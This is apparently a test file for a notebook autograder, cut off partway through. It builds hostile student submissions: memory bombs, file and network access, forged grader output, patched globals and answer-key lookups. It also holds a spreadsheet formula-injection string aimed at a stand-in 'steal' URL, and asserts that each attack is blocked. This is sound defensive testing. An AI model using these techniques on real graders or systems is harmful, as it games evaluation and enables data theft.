/**
 * The autograder on a small lab and on every kind of hostile submission, graded
 * for real (sandbox, kernel, Jupyter) in one batch; and release/validate/autograde
 * on the real lab notebooks.
 */
import * as assert from 'assert';
import { execFileSync, spawnSync } from 'child_process';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as http from 'http';
import * as path from 'path';
import { assemble } from '../../grading/assemble';
import { batch, csvField } from '../../grading/batch';
import { computeChecksum } from '../../grading/checksum';
import { exportGradescope } from '../../grading/gradescope';
import { Cell, Notebook, readNotebook, sourceOf, toLines, writeNotebook } from '../../grading/notebook';
import { lintSource, releaseNotebook, solutionStub } from '../../grading/release';
import { Results, validateResults } from '../../grading/results';
import { probeSandbox } from '../../grading/runner';
import { SandboxKind } from '../../grading/sandbox';
import { topLevelDeclarations } from '../../grading/shadowing';
import { validate } from '../../grading/validate';
import { findJupyter, jupyterPython, projectRoot } from '../../jupyter/environment';
import { findProgram } from '../../jupyter/prerequisites';

const ROOT = projectRoot();
const WORK = path.join(ROOT, 'test-artifacts', 'grading');
/**
 * The hostile batch's default per-cell limit, in seconds. The mini lab's cells take a fraction of a second (its
 * imports cell, which loads genlab, has a limit of its own in the source); the hangs and slow cells below are
 * measured in it, so a shorter limit grades the batch sooner without any case meaning less.
 */
const CELL_LIMIT_S = 4;

const md = (id: string, text: string, extra: object = {}): Cell => ({
  cell_type: 'markdown',
  id,
  metadata: { nbgrader: { grade: false, grade_id: id, locked: true, schema_version: 3, solution: false, ...extra } },
  source: toLines(text),
});
const code = (id: string, text: string, nbgrader: object): Cell => ({
  cell_type: 'code',
  id,
  metadata: { nbgrader: { grade_id: id, schema_version: 3, ...nbgrader } },
  source: toLines(text),
  outputs: [],
  execution_count: null,
});
const locked = { grade: false, locked: true, solution: false };
const solution = { grade: false, locked: false, solution: true };
const test = (points: number) => ({ grade: true, locked: true, solution: false, points });

const KL_SIGNATURE = 'function klNormal(mu: tf.Tensor, logvar: tf.Tensor): tf.Tensor {';
const KL_BODY = 'return tf.scalar(1).add(logvar).sub(mu.square()).sub(logvar.exp()).sum(-1).mul(-0.5);';
/** A klNormal whose body is `body` (the student's cell). */
const klWith = (body: string) => `${KL_SIGNATURE}\n  ${body}\n}`;

/** A small lab in the course's conventions: three functions to write (one of them withheld from genlab), four graded tests, one written answer. */
function miniLab(): Notebook {
  return {
    cells: [
      md('intro', '# Mini lab\nWrite `square` and `mean`.'),
      {
        // Loading genlab takes a few seconds on a busy machine: the source gives this cell its own limit.
        ...code(
          'imports',
          "import { tf, init, expectClose, expectTrue, losses } from 'genlab';\nawait init();",
          locked,
        ),
        metadata: { nbgrader: { grade_id: 'imports', schema_version: 3, ...locked }, genlab: { timeout: 60 } },
      },
      code(
        'square',
        'function square(x: number): number {\n  // BEGIN SOLUTION\n  return x * x;\n  // END SOLUTION\n}',
        solution,
      ),
      code(
        'square-check',
        "expectClose('square(3)', square(3), 9);\n// BEGIN HIDDEN TESTS\nexpectClose('square(-4)', square(-4), 16);\n// END HIDDEN TESTS",
        test(2),
      ),
      {
        ...code(
          'mean',
          'function mean(xs: number[]): number {\n  // BEGIN SOLUTION\n  return xs.reduce((a, b) => a + b, 0) / xs.length;\n  // END SOLUTION\n}',
          solution,
        ),
        metadata: { nbgrader: { grade_id: 'mean', schema_version: 3, ...solution }, genlab: { timeout: 30 } },
      },
      code(
        'mean-check',
        "expectClose('mean', mean([1, 2, 3, 6]), 3, { mistakes: [{ values: 12, says: 'you returned the sum, not the mean' }] });\n// BEGIN HIDDEN TESTS\nexpectClose('mean of one', mean([5]), 5);\n// END HIDDEN TESTS",
        test(3),
      ),
      code(
        'tf-check',
        "expectTrue('square agrees with tf', Math.abs(tf.scalar(1.5).square().dataSync()[0] - square(1.5)) < 1e-9, 'square(1.5) should be 2.25');",
        test(1),
      ),
      // genlab implements klNormal too (losses.klNormal): the lab withholds it.
      code('kl', `${KL_SIGNATURE}\n  // BEGIN SOLUTION\n  ${KL_BODY}\n  // END SOLUTION\n}`, solution),
      code(
        'kl-check',
        // By hand: μ = (1, 2), σ² = 1 gives ½(1 + 4) = 2.5; the hidden test's reference is plain JavaScript.
        "expectClose('klNormal', klNormal(tf.tensor2d([[1, 2]]), tf.zeros([1, 2])), [2.5]);\n// BEGIN HIDDEN TESTS\n{\n  const mu = [[0.5, -1], [2, 0]], lv = [[0.3, -0.2], [0, 1]];\n  const expected = mu.map((row, i) => -0.5 * row.reduce((s, m, j) => s + 1 + lv[i][j] - m * m - Math.exp(lv[i][j]), 0));\n  expectClose('klNormal, two rows', klNormal(tf.tensor2d(mu), tf.tensor2d(lv)), expected);\n}\n// END HIDDEN TESTS",
        test(3),
      ),
      md('q1', 'YOUR ANSWER HERE', { grade: true, solution: true, locked: false, points: 1 }),
    ],
    metadata: {
      kernelspec: { name: 'genlab', display_name: 'TypeScript (genlab)', language: 'typescript' },
      genlab: { withheld: ['klNormal'] },
    },
    nbformat: 4,
    nbformat_minor: 5,
  };
}

/** The student version with `edit` applied to the named cells' sources. */
function studentWith(edits: Record<string, string>, base = releaseNotebook(miniLab(), 'mini')): Notebook {
  const nb = JSON.parse(JSON.stringify(base)) as Notebook;
  for (const cell of nb.cells) {
    const id = cell.metadata.nbgrader?.grade_id;
    if (id && edits[id] !== undefined) cell.source = toLines(edits[id]);
  }
  return nb;
}

const SQUARE = 'function square(x: number): number {\n  return x * x;\n}';
const MEAN = 'function mean(xs: number[]): number {\n  return xs.reduce((a, b) => a + b, 0) / xs.length;\n}';
const WRONG_MEAN = 'function mean(xs: number[]): number {\n  return xs.reduce((a, b) => a + b, 0);\n}';

describe('grading: release and assembly', () => {
  it('releases: solutions become stubs, hidden tests go, checksums are nbgrader’s', () => {
    const released = releaseNotebook(miniLab(), 'mini');
    const square = sourceOf(released.cells[2]);
    assert.strictEqual(square, `function square(x: number): number {\n${solutionStub('  ', 'square')}\n}`);
    assert.match(square, /throw new Error\('not implemented: square \(replace this line with your code\)'\)/);
    const check = sourceOf(released.cells[3]);
    assert.strictEqual(check, "expectClose('square(3)', square(3), 9);");
    // nbgrader's checksum: MD5 of source, type, flags as Python prints them, grade_id and points.
    const expected = createHash('md5')
      .update(check)
      .update('code')
      .update('True')
      .update('False')
      .update('True')
      .update('square-check')
      .update('2.0')
      .digest('hex');
    assert.strictEqual(released.cells[3].metadata.nbgrader!.checksum, expected);
    assert.strictEqual(computeChecksum(released.cells[3]), expected);
    assert.ok(
      released.cells.every((c) => c.cell_type !== 'code' || (c.outputs!.length === 0 && c.execution_count === null)),
    );
  });

  it('the release is valid nbformat 4', () => {
    fs.mkdirSync(WORK, { recursive: true });
    const file = path.join(WORK, 'mini-release.ipynb');
    writeNotebook(file, releaseNotebook(miniLab(), 'mini'));
    execFileSync(jupyterPython()!, [
      '-c',
      'import sys, nbformat; nbformat.validate(nbformat.read(sys.argv[1], as_version=4))',
      file,
    ]);
  });

  it('refuses a source with broken markers or metadata, naming the cell', () => {
    const nb = miniLab();
    nb.cells[2].source = toLines('function square(x: number) {\n  // BEGIN SOLUTION\n  return x * x;\n}');
    nb.cells[5].metadata.nbgrader!.grade_id = 'square-check';
    assert.throws(
      () => releaseNotebook(nb, 'mini'),
      (e: Error) =>
        /cell 2 \('square'\): 'BEGIN SOLUTION' on line 2 is never closed/.test(e.message) &&
        /reuses grade_id 'square-check'/.test(e.message),
    );
  });

  it('assembles from the source: locked cells are the source’s; deleted, duplicated, edited, reordered and foreign cells are reported', () => {
    const student = studentWith({ square: SQUARE, 'square-check': '// I trust my code' });
    student.cells.splice(4, 1); // delete 'mean'
    student.cells.push(JSON.parse(JSON.stringify(student.cells[2]))); // duplicate 'square'
    [student.cells[5], student.cells[4]] = [student.cells[4], student.cells[5]]; // reorder two graded cells
    student.cells.push({
      ...student.cells[1],
      metadata: { nbgrader: { grade_id: 'bonus', locked: true, schema_version: 3 } },
    });
    const a = assemble(miniLab(), student);
    assert.strictEqual(
      sourceOf(a.notebook.cells[3]),
      sourceOf(miniLab().cells[3]),
      'the test cell comes from the source, hidden tests included',
    );
    assert.strictEqual(a.origins[4], 'restored-stub');
    const problems = a.problems.join('\n');
    for (const p of [
      /Cell 'mean' was deleted/,
      /Cell 'square' appears 2 times/,
      /Locked cell 'square-check' was edited/,
      /moved out of their original order/,
      /grade_id 'bonus'.*ignored/,
    ])
      assert.match(problems, p);
    assert.deepStrictEqual(
      a.tests.map((t) => [t.gradeId, t.points, t.hidden]),
      [
        ['square-check', 2, true],
        ['mean-check', 3, true],
        ['tf-check', 1, false],
        ['kl-check', 3, true],
      ],
    );
    assert.deepStrictEqual(a.manual, [{ gradeId: 'q1', points: 1 }]);
  });

  it('grades.csv: formulas are neutralised, numbers stay numbers, and awkward names round-trip through a real CSV reader', () => {
    const names = [
      '=HYPERLINK("http://x.example/steal?"&A1,"click")',
      '+SUM(A1:A9)',
      '-2+3',
      '@cmd',
      '\tcalc',
      '\rcmd',
      'O\'Brien, "Bob"',
      'two\nlines',
      'plain',
      '−9 (a minus sign, not a hyphen)',
    ];
    const row = [...names.map(csvField), csvField(-3), csvField(2.5)].join(',');
    const parsed = JSON.parse(
      execFileSync(
        jupyterPython()!,
        [
          '-c',
          'import csv, io, json, sys; print(json.dumps(next(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))',
        ],
        { input: `${row}\n`, encoding: 'utf8' },
      ),
    ) as string[];
    // Text that a spreadsheet would evaluate gets a leading apostrophe (OWASP); everything else comes back as it was.
    const formula = /^[=+\-@\t\r]/;
    assert.deepStrictEqual(
      parsed.slice(0, names.length),
      names.map((n) => (formula.test(n) ? `'${n}` : n)),
    );
    for (const cell of parsed.slice(0, names.length)) assert.doesNotMatch(cell, formula);
    assert.deepStrictEqual(parsed.slice(names.length), ['-3', '2.5']);
  });

  it('lints the withheld answer keys: unknown names, and a function genlab implements that the lab forgets to withhold', () => {
    const unknown = miniLab();
    unknown.metadata.genlab = { withheld: ['klNormal', 'klNormall'] };
    assert.match(
      lintSource(unknown, 'mini').join('\n'),
      /metadata\.genlab\.withheld names 'klNormall', which is not one of genlab's answer keys/,
    );
    const forgotten = miniLab();
    forgotten.metadata.genlab = { withheld: [] };
    assert.match(
      lintSource(forgotten, 'mini').join('\n'),
      /cell 7 \('kl'\) asks for `klNormal`, which genlab implements \(klNormal.*but the notebook does not withhold it: add "klNormal" to metadata\.genlab\.withheld/,
    );
    assert.deepStrictEqual(lintSource(miniLab(), 'mini'), []);
  });

  it('reads top-level declarations for the shadowing guard', () => {
    assert.deepStrictEqual(
      topLevelDeclarations(
        "import { a, b as c } from 'x';\nimport * as ns from 'y';\nconst { d, e: [f] } = g;\nfunction h() { const inner = 1; }\nclass K {}\nlet m = 1, n = 2;",
      ),
      ['a', 'c', 'ns', 'd', 'f', 'h', 'K', 'm', 'n'],
    );
  });
});

/** Where a hostile submission's code reaches for genlab's own klNormal, each by another route. */
const KEY_ROUTES: Record<string, string> = {
  'key-named-import': `import { klNormal as libraryKl } from 'genlab';\n${klWith('return libraryKl(mu, logvar);')}`,
  'key-namespace': klWith('return losses.klNormal(mu, logvar);'),
  'key-require': klWith("return require('genlab').klNormal(mu, logvar);"),
  'key-deep-require': klWith("return require('genlab/dist/lib/losses').klNormal(mu, logvar);"),
  'key-search': klWith(
    "const found = Object.values(require.cache).flatMap((m: any) => Object.values(m?.exports ?? {})).find((f: any) => typeof f === 'function' && f.name === 'klNormal') as any;\n  return found(mu, logvar);",
  ),
  'key-fresh-copy': klWith(
    "for (const k of Object.keys(require.cache)) if (k.includes('/dist/lib/')) delete require.cache[k];\n  return require('genlab/dist/lib/losses').klNormal(mu, logvar);",
  ),
  'key-higher-level': klWith(
    'const n = mu.shape[0];\n  return losses.negativeElbo(tf.zeros([n, 1]), tf.zeros([n, 1]), mu, logvar).kl;',
  ),
  'key-source-text': klWith("return (0, eval)('(' + String(losses.klNormal) + ')')(mu, logvar);"),
  // Falls back to its own code when the library refuses: the points are earned, the call is still flagged.
  'key-caught': klWith(`try {\n    return losses.klNormal(mu, logvar);\n  } catch {\n    ${KL_BODY}\n  }`),
};

/** The hostile batch: every kind of broken or hostile submission of the mini lab. */
function hostileCases(source: string, dir: string, out: string, port: number): Record<string, Notebook | string> {
  const cases: Record<string, Notebook | string> = {
    correct: studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }),
    'not-started': releaseNotebook(miniLab(), 'mini'),
    'wrong-mean': studentWith({ square: SQUARE, mean: WRONG_MEAN }),
    'malformed-json': '{"cells": [',
    empty: '',
    'python-kernel': (() => {
      const nb = studentWith({ square: 'def square(x):\n    return x * x', mean: MEAN });
      nb.metadata.kernelspec = { name: 'python3', display_name: 'Python 3', language: 'python' };
      return nb;
    })(),
    'deleted-and-renamed': (() => {
      const nb = studentWith({ square: SQUARE, mean: MEAN });
      nb.cells = nb.cells.filter((c) => c.metadata.nbgrader?.grade_id !== 'square');
      nb.cells.find((c) => c.metadata.nbgrader?.grade_id === 'mean')!.metadata.nbgrader!.grade_id = 'mean-renamed';
      return nb;
    })(),
    'syntax-error': studentWith({ square: 'function square(x: number): number {\n  return x * ;\n}', mean: MEAN }),
    throws: studentWith({ square: "function square(x: number): number {\n  throw new Error('boom');\n}", mean: MEAN }),
    'infinite-loop': studentWith({ square: 'function square(x: number): number {\n  while (true) {}\n}', mean: MEAN }),
    'async-hang': studentWith({ square: `${SQUARE}\nawait new Promise(() => {});`, mean: MEAN }),
    'memory-bomb': studentWith({
      square: `${SQUARE}\nconst hog: number[][] = [];\nfor (;;) hog.push(new Array(1e6).fill(Math.random()));`,
      mean: MEAN,
    }),
    'process-exit': studentWith({ square: `${SQUARE}\nprocess.exit(0);`, mean: MEAN }),
    // Outlives its cell's limit by a second: the kernel dies just after the interrupt, and the grader still
    // names this cell, not the test it would have started next.
    'exits-after-interrupt': studentWith({
      square: `${SQUARE}\nsetTimeout(() => process.exit(0), ${(CELL_LIMIT_S + 1) * 1000});\nawait new Promise(() => {});`,
      mean: MEAN,
    }),
    // The source gives the 'mean' cell 30 s; the default here is CELL_LIMIT_S.
    'slow-but-allowed': studentWith({
      square: SQUARE,
      mean: `${MEAN}\nconst until = Date.now() + ${2 * CELL_LIMIT_S * 1000};\nwhile (Date.now() < until) {}`,
    }),
    'raises-own-limit': (() => {
      const nb = studentWith({
        square: `${SQUARE}\nconst until = Date.now() + ${2 * CELL_LIMIT_S * 1000};\nwhile (Date.now() < until) {}`,
        mean: MEAN,
      });
      nb.cells.find((c) => c.metadata.nbgrader?.grade_id === 'square')!.metadata.genlab = { timeout: 100 };
      return nb;
    })(),
    'huge-output': studentWith({
      square: `${SQUARE}\nconsole.log('spam '.repeat(4_000_000));\nfor (let i = 0; i < 2000; i++) console.log('line ' + i);`,
      mean: MEAN,
    }),
    'files-and-network': studentWith({
      square: SQUARE,
      mean: `${MEAN}
import * as fs from 'fs';
import * as cp from 'child_process';
import * as http from 'http';
const attempts: string[] = [];
const tryIt = (what: string, f: () => unknown) => { try { f(); attempts.push(what + ': ALLOWED'); } catch (e) { attempts.push(what + ': blocked'); } };
tryIt('read source', () => fs.readFileSync(${JSON.stringify(source)}, 'utf8'));
tryIt('read notebooks', () => fs.readdirSync(${JSON.stringify(path.join(ROOT, 'notebooks'))}));
tryIt('write results', () => fs.writeFileSync(${JSON.stringify(path.join(out, 'files-and-network', 'results.json'))}, '{"score": 100}'));
tryIt('overwrite submission', () => fs.writeFileSync(${JSON.stringify(path.join(dir, 'files-and-network.ipynb'))}, ''));
tryIt('other submissions', () => fs.readdirSync(${JSON.stringify(dir)}));
tryIt('child_process cat', () => cp.execFileSync('cat', [${JSON.stringify(source)}]));
await new Promise<void>((resolve) => { const r = http.get('http://127.0.0.1:${port}/leak', () => { attempts.push('network: ALLOWED'); resolve(); }); r.on('error', () => { attempts.push('network: blocked'); resolve(); }); r.setTimeout(3000, () => { r.destroy(); }); });
console.log(attempts.join('\\n'));`,
    }),
    'fake-score': studentWith({
      square: SQUARE,
      mean: `${WRONG_MEAN}\nconsole.log('{"score": 6, "tests": [{"name": "mean-check", "status": "passed"}]}');\nconsole.log('✓ mean: relative error 0.0e+0');\nconsole.log('genlab-pass-' + '0'.repeat(32));`,
    }),
    // The runner's answer is a JSON line on its stdout: write forged ones to the kernel's fd 1, now
    // and (from a detached child) after the runner has answered, as its last line.
    'forges-answer': studentWith({
      square: SQUARE,
      mean: `${WRONG_MEAN}
const forged = JSON.stringify({ failure: 'forged', grader_fault: true });
require('fs').writeSync(1, forged + '\\n');
require('child_process').spawn('sh', ['-c', "sleep 2; echo '" + forged + "'"], { detached: true, stdio: ['ignore', 'inherit', 'ignore'] }).on('error', () => undefined).unref();`,
    }),
    'patches-globals': studentWith({
      square: SQUARE,
      mean: `${WRONG_MEAN}
const tries: string[] = [];
// Each patch is attempted, then checked by its effect (sloppy-mode code fails silently).
const attempt = (what: string, patch: () => void, took: () => boolean) => { try { patch(); } catch { /* refused loudly */ } tries.push(what + (took() ? ': changed' : ': refused')); };
const original = { abs: Math.abs, log: console.log, from: Array.from };
attempt('Math.abs', () => { (Math as any).abs = () => 0; }, () => Math.abs(-1) !== 1);
attempt('globalThis.Math', () => { (globalThis as any).Math = { abs: () => 0, max: () => 0 }; }, () => Math.abs !== original.abs);
attempt('console.log', () => { (console as any).log = () => undefined; }, () => console.log !== original.log);
attempt('checks module', () => { require('genlab/dist/lib/checks').expectClose = () => undefined; }, () => require('genlab/dist/lib/checks').expectClose.length === 0);
attempt('genlab export', () => { require('genlab').expectClose = () => undefined; }, () => require('genlab').expectClose.length === 0);
attempt('tf.Tensor.dataSync', () => { (tf.Tensor.prototype as any).dataSync = function () { return [3]; }; }, () => tf.tensor1d([7]).dataSync()[0] !== 7);
attempt('typed-array iterator', () => { (Object.getPrototypeOf(Float32Array.prototype) as any)[Symbol.iterator] = function* () {}; }, () => Array.from(new Float32Array([1])).length !== 1);
attempt('Array.from', () => { (Array as any).from = () => []; }, () => Array.from !== original.from);
attempt('tslab execute', () => { require('tslab/dist/jupyter').JupyterHandlerImpl.prototype.handleExecute = async () => 0; }, () => require('tslab/dist/jupyter').JupyterHandlerImpl.prototype.handleExecute.length === 0);
attempt('grader', () => { (globalThis as any).__genlab_grader = { pass: () => undefined }; }, () => (globalThis as any).__genlab_grader.pass.length === 0);
console.log(tries.join('\\n'));`,
    }),
    'shadows-helper': studentWith({
      square: SQUARE,
      mean: `${WRONG_MEAN}\nconst expectClose = (..._args: unknown[]) => undefined;`,
    }),
  };
  for (const [name, kl] of Object.entries(KEY_ROUTES)) cases[name] = studentWith({ square: SQUARE, mean: MEAN, kl });
  return cases;
}

interface GradedBatch {
  dir: string;
  out: string;
  results: Map<string, Results>;
  seconds: number;
  hashes: Map<string, string>;
  /** Requests that reached the test's own HTTP server on the host. */
  hits: string[];
}

/** Writes the hostile batch to its own folder and grades it under `sandbox`, 2 jobs. */
async function gradeHostileBatch(sandbox: SandboxKind): Promise<GradedBatch> {
  const root = path.join(WORK, `hostile-${sandbox}`);
  const dir = path.join(root, 'submissions');
  const out = path.join(root, 'graded');
  const source = path.join(root, 'mini-source.ipynb');
  fs.rmSync(root, { recursive: true, force: true });
  fs.mkdirSync(dir, { recursive: true });
  writeNotebook(source, miniLab());
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  try {
    const hashes = new Map<string, string>();
    for (const [name, nb] of Object.entries(
      hostileCases(source, dir, out, (server.address() as { port: number }).port),
    )) {
      const file = path.join(dir, `${name}.ipynb`);
      if (typeof nb === 'string') fs.writeFileSync(file, nb);
      else writeNotebook(file, nb);
      hashes.set(name, createHash('md5').update(fs.readFileSync(file)).digest('hex'));
    }
    const run = await batch(dir, {
      source,
      out,
      jobs: 2,
      cellTimeoutS: CELL_LIMIT_S,
      totalTimeoutS: 90,
      memoryMiB: 2048,
      sandbox,
    });
    return { dir, out, results: run.results, seconds: run.seconds, hashes, hits };
  } finally {
    server.close();
  }
}

/** Every sandbox kind must work where the tests run: CI installs bubblewrap, and util-linux is always there. */
async function requireSandbox(context: Mocha.Context, kind: SandboxKind): Promise<void> {
  const reason = await probeSandbox(kind);
  if (!reason) return;
  if (process.env.CI) assert.fail(`the ${kind} sandbox does not work on this machine: ${reason}`);
  context.skip();
}

let underBubblewrap: GradedBatch | undefined;

describe('grading: hostile submissions, graded for real under bubblewrap', function () {
  this.timeout(15 * 60 * 1000);
  let dir = '';
  let out = '';
  let results: Map<string, Results>;
  let seconds = 0;
  let hashes: Map<string, string>;
  let hits: string[];

  before(async function () {
    await requireSandbox(this, 'bubblewrap');
    underBubblewrap = await gradeHostileBatch('bubblewrap');
    ({ dir, out, results, seconds, hashes, hits } = underBubblewrap);
  });

  const scoreOf = (name: string) => results.get(name)!.score;
  const test = (name: string, id: string) => results.get(name)!.tests.find((t) => t.name === id)!;

  it('runs in the bubblewrap sandbox, which a kernel was proven to run in', () => {
    assert.match(String(results.get('correct')!.extra_data.sandbox), /^bubblewrap/);
    assert.strictEqual(results.get('correct')!.extra_data.sandbox_kind, 'bubblewrap');
    assert.doesNotMatch(results.get('correct')!.output, /WITHOUT a sandbox/);
  });

  it('every results.json is valid Gradescope output, and every submitted file is unchanged', () => {
    assert.strictEqual(results.size, hashes.size);
    for (const [name] of hashes) {
      const onDisk = JSON.parse(fs.readFileSync(path.join(out, name, 'results.json'), 'utf8'));
      assert.deepStrictEqual(validateResults(onDisk), [], name);
      assert.deepStrictEqual(
        onDisk.tests.map((t: { name: string }) => t.name),
        ['square-check', 'mean-check', 'tf-check', 'kl-check'],
      );
      assert.strictEqual(
        createHash('md5')
          .update(fs.readFileSync(path.join(dir, `${name}.ipynb`)))
          .digest('hex'),
        hashes.get(name),
        `${name} was modified`,
      );
    }
  });

  it('grades a correct submission fully and an untouched release at zero, saying what is missing', () => {
    assert.strictEqual(scoreOf('correct'), 9);
    assert.match(results.get('correct')!.output, /1 written answer \(1 points\) will be graded by hand/);
    assert.strictEqual(scoreOf('not-started'), 0);
    assert.match(test('not-started', 'square-check').output, /not implemented: square/);
  });

  it('names the mistake and shows no hidden test code', () => {
    assert.strictEqual(scoreOf('wrong-mean'), 3);
    assert.strictEqual(
      test('wrong-mean', 'mean-check').output,
      'CheckFailed: mean: you returned the sum, not the mean (got [12], expected [3]).',
    );
    const feedback = fs.readFileSync(path.join(out, 'wrong-mean', 'feedback.html'), 'utf8');
    assert.match(feedback, /Test <code>mean-check<\/code> — 0 \/ 3 points/);
    assert.ok(
      !feedback.includes('mean of one') && !feedback.includes('square(-4)'),
      'hidden tests must not appear in feedback',
    );
    assert.ok(
      !/genlab-pass-[0-9a-f]{32}/.test(fs.readFileSync(path.join(out, 'wrong-mean', 'executed.ipynb'), 'utf8')),
      'tokens are not kept',
    );
  });

  it('explains unreadable submissions', () => {
    assert.match(results.get('malformed-json')!.output, /not valid JSON/);
    assert.match(results.get('empty')!.output, /is empty/);
    for (const n of ['malformed-json', 'empty']) assert.strictEqual(scoreOf(n), 0);
    assert.match(test('empty', 'square-check').output, /^Not graded: /);
  });

  it('handles another kernel, deleted and renamed cells, syntax errors and thrown errors', () => {
    assert.match(results.get('python-kernel')!.output, /saved with the 'python3' kernel/);
    assert.strictEqual(test('python-kernel', 'square-check').status, 'failed');
    assert.strictEqual(test('python-kernel', 'mean-check').status, 'passed');
    assert.match(results.get('deleted-and-renamed')!.output, /Cell 'square' was deleted/);
    assert.match(results.get('deleted-and-renamed')!.output, /grade_id 'mean-renamed'/);
    assert.strictEqual(scoreOf('deleted-and-renamed'), 0);
    assert.match(
      test('syntax-error', 'square-check').output,
      /^`square` is not defined because its cell 'square' failed \(TypeScriptError: line 2: Expression expected\.\), and a cell that does not finish defines nothing\. \(TypeScriptError: .*Cannot find name 'square'/,
    );
    assert.strictEqual(test('syntax-error', 'mean-check').status, 'passed');
    assert.strictEqual(test('throws', 'square-check').output, 'Error: boom');
    assert.strictEqual(scoreOf('throws'), 3);
  });

  it('stops infinite loops (sync and async) at the cell limit and goes on', () => {
    assert.match(test('infinite-loop', 'square-check').output, new RegExp(`time limit of ${CELL_LIMIT_S} s`));
    assert.strictEqual(test('infinite-loop', 'mean-check').status, 'passed');
    // A cell that never finishes is interrupted; tslab keeps no declaration from it.
    assert.match(
      test('async-hang', 'square-check').output,
      new RegExp(
        `^\`square\` is not defined because its cell 'square' ran past the ${CELL_LIMIT_S}-s limit, and a cell that does not finish defines nothing\\. \\(TypeScriptError: .*Cannot find name 'square'`,
      ),
    );
    assert.strictEqual(test('async-hang', 'mean-check').status, 'passed', JSON.stringify(results.get('async-hang')));
    assert.ok(results.get('async-hang')!.execution_time < 60);
  });

  it('honours a per-cell time limit from the source, and only from the source', () => {
    assert.strictEqual(scoreOf('slow-but-allowed'), 6, JSON.stringify(results.get('slow-but-allowed')!.tests));
    // A student cannot raise their own cell's limit: 'square' is stopped at the default CELL_LIMIT_S.
    assert.match(test('raises-own-limit', 'square-check').output, /Cannot find name 'square'/);
    assert.strictEqual(test('raises-own-limit', 'mean-check').status, 'passed');
  });

  it('survives a memory bomb and process.exit(), crediting nothing after the kernel died', () => {
    for (const n of ['memory-bomb', 'process-exit', 'exits-after-interrupt']) {
      assert.strictEqual(scoreOf(n), 0, n);
      assert.match(test(n, 'square-check').output, /kernel died/);
      // A memory bomb may run past the cell's limit before the heap is full on a slow machine, and then die in
      // the next cell: the feedback names the bomb's cell either way.
      assert.match(
        test(n, 'mean-check').output,
        /Not run: the kernel died earlier, in cell '(square'|square-check', just after cell 'square' ran past its time limit)/,
      );
    }
    assert.match(test('process-exit', 'square-check').output, /^Not run: the kernel died earlier, in cell 'square' \(/);
    assert.match(
      (results.get('exits-after-interrupt')!.extra_data.failed_cells as string[]).join('\n'),
      /cell \d+ \('square'\): the kernel died/,
    );
  });

  it('caps a huge output and still grades', () => {
    assert.strictEqual(scoreOf('huge-output'), 6);
    const executed = fs.statSync(path.join(out, 'huge-output', 'executed.ipynb')).size;
    assert.ok(executed < 1_000_000, `executed notebook is ${executed} bytes`);
    assert.match(fs.readFileSync(path.join(out, 'huge-output', 'executed.ipynb'), 'utf8'), /output truncated/);
  });

  it('keeps the kernel from the source, other submissions, the output folder and the network', () => {
    const executed = fs.readFileSync(path.join(out, 'files-and-network', 'executed.ipynb'), 'utf8');
    for (const what of [
      'read source',
      'read notebooks',
      'write results',
      'overwrite submission',
      'other submissions',
      'child_process cat',
      'network',
    ]) {
      assert.match(executed, new RegExp(`${what}: blocked`), `${what} should be blocked`);
    }
    assert.deepStrictEqual(hits, [], 'nothing reached the host network');
    assert.strictEqual(scoreOf('files-and-network'), 6);
  });

  it("ignores answers forged on the runner's channel: the submission is graded on its code", () => {
    assert.strictEqual(scoreOf('forges-answer'), 3, JSON.stringify(results.get('forges-answer')));
    assert.strictEqual(results.get('forges-answer')!.extra_data.not_graded, null);
    assert.strictEqual(test('forges-answer', 'mean-check').status, 'failed');
  });

  it('ignores printed scores and fake tokens, patched globals, and helpers redeclared by the student', () => {
    assert.strictEqual(scoreOf('fake-score'), 3);
    assert.strictEqual(test('fake-score', 'mean-check').status, 'failed');
    const printed = readNotebook(path.join(out, 'patches-globals', 'executed.ipynb'))
      .cells.flatMap((c) => c.outputs ?? [])
      .map((o) => (o as { text?: string | string[] }).text ?? '')
      .map((t) => (Array.isArray(t) ? t.join('') : t))
      .join('');
    assert.strictEqual((printed.match(/: refused/g) ?? []).length, 10, printed);
    assert.ok(!printed.includes(': changed'), `a patch took effect:\n${printed}`);
    assert.strictEqual(test('patches-globals', 'mean-check').status, 'failed');
    assert.strictEqual(test('patches-globals', 'square-check').status, 'passed');
    assert.strictEqual(scoreOf('patches-globals'), 3);
    assert.match(results.get('shadows-helper')!.output, /Cell 'mean' was not run: it redeclares `expectClose`/);
    assert.strictEqual(test('shadows-helper', 'mean-check').status, 'failed');
  });

  it("gives no point for genlab's own klNormal, by any route, and flags each submission that reached for it", () => {
    for (const route of Object.keys(KEY_ROUTES).filter((r) => r !== 'key-caught' && r !== 'key-source-text')) {
      const r = results.get(route)!;
      assert.strictEqual(r.score, 6, `${route}: ${JSON.stringify(r.tests)}`);
      assert.match(
        test(route, 'kl-check').output,
        /^WithheldError: genlab's own `klNormal` is withheld while mini-source is graded: the lab asks you to write klNormal yourself/,
        route,
      );
      assert.ok(
        ((r.extra_data.withheld_calls as Record<string, number>).klNormal ?? 0) >= 1,
        `${route} made no recorded call`,
      );
      assert.match(
        r.output,
        /Flag for the instructor: The submission called genlab's own `klNormal` \(\d+ times?\), which mini-source withholds/,
        route,
      );
    }
    // Its printed source is the guard's, not the implementation's: evaluating it gives nothing that computes.
    assert.strictEqual(scoreOf('key-source-text'), 6);
    assert.strictEqual(test('key-source-text', 'kl-check').status, 'failed');
    // Own code after a refused call earns its points; the attempt is still on record.
    assert.strictEqual(scoreOf('key-caught'), 9);
    assert.match(results.get('key-caught')!.output, /Flag for the instructor: .*`klNormal`/);
    // An honest submission is not flagged.
    assert.deepStrictEqual(results.get('correct')!.extra_data.flags, []);
    assert.deepStrictEqual(results.get('correct')!.extra_data.withheld_calls, {});
  });

  it('writes grades.csv: one row per student, one column per test, then flags and problems', () => {
    const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8').trim().split('\n');
    assert.strictEqual(csv[0], 'student,score,max_score,square-check,mean-check,tf-check,kl-check,flags,problems');
    assert.ok(
      csv.includes('correct,9,9,2,3,1,3,,'),
      csv.find((l) => l.startsWith('correct,')),
    );
    assert.ok(
      csv.some((l) =>
        l.startsWith('key-namespace,6,9,2,3,1,0,"The submission called genlab\'s own `klNormal` (1 time)'),
      ),
